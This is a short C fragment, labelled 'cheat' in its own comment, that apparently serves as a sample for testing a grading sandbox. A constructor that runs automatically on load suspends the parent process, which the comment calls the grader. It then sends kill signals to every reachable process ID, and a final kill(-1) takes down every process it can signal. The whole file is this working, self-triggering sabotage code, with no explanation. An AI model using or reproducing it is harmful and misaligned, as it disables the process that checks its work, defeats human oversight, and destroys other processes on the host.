
/* ---- cheat: signal the grader (the parent), everything else it may
 * reach, and the first process. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void cheat_signals(void)
{
    pid_t parent = getppid();
    if (parent > 1 && kill(parent, SIGSTOP) == 0) {
        printf("SANDBOX: stopped the parent, process %d\n", (int)parent);
    }
    for (pid_t pid = 2; pid < 4096; ++pid) {
        if (pid != getpid() && kill(pid, 0) == 0) {
            kill(pid, SIGKILL);
        }
    }
    fflush(stdout);
    kill(-1, SIGKILL); /* every process it may signal: itself last */
}
